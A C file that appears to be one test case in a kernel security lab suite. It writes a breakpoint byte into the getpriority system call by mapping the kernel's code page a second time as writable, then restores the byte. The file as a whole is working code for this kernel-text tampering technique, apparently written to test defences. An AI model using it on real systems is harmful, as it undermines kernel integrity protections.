// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* The kernel's text is mapped a second time, writable, and one byte is written by that way. */
#include "attack.h"

static void *alias;
static u8 *byte;
static u8 original;

static int attack(void)
{
	unsigned long target = symbol("__x64_sys_getpriority");
	struct page *page;

	if (!target)
		return -ENOENT;
	page = pfn_to_page(__pa_symbol(target) >> PAGE_SHIFT);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	/* An instruction that is not reached in the lab: a breakpoint there harms nobody. */
	byte = alias + (target & ~PAGE_MASK) + 32;
	if ((target & ~PAGE_MASK) + 32 >= PAGE_SIZE)
		return -ENXIO;
	original = *byte;
	*byte = 0xcc;
	return 0;
}

static void undo(void)
{
	*byte = original;
	vunmap(alias);
}

ATTACK("text written through a writable alias");
